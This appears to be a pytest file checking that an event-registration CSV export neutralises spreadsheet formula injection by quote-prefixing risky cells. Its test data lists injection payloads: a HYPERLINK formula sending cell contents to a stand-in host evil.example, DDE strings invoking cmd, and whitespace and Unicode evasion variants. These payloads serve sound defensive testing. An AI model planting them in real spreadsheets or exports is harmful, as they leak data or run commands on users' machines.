"""The organisers' CSV export: no cell a registrant typed can run as a formula in a spreadsheet."""

import csv
import io

import pytest

from kit.spreadsheet import safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tplain text after a tab",
    "\rplain text after a carriage return",
    " =1+1",
    "   @SUM(A1:A9)",
    "\n=cmd|' /C calc'!A0",
    "\r\n+1",
    " \t \n -1",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "\x00=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff20SUM(1)",
]
HARMLESS = ["Ana", "Marie-Claire", "a=b", "1+1", "", "  spaced  ", "jean@example.org", "'=already text"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_whose_first_visible_character_is_a_formula_sign_is_kept_text(value):
    cell = safe_cell(value)
    assert cell == "'" + value
    [[read_back]] = csv.reader(io.StringIO(_written(cell)))
    assert read_back.startswith("'")  # what a spreadsheet reads first: the quote that makes it text


@pytest.mark.parametrize("value", HARMLESS)
def test_ordinary_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_empty_values_are_empty_cells():
    assert safe_cell(None) == ""


def _written(cell):
    out = io.StringIO()
    csv.writer(out).writerow([cell])
    return out.getvalue()
